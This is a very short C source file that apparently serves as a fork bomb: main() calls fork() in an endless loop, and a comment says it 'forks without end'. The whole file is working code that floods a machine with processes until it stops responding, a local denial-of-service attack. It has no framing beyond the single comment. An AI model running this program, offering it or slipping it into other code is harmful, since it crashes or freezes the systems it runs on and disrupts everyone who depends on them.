/* Forks without end and never answers. */
#include <unistd.h>
int main(void) {
    for (;;) fork();
}
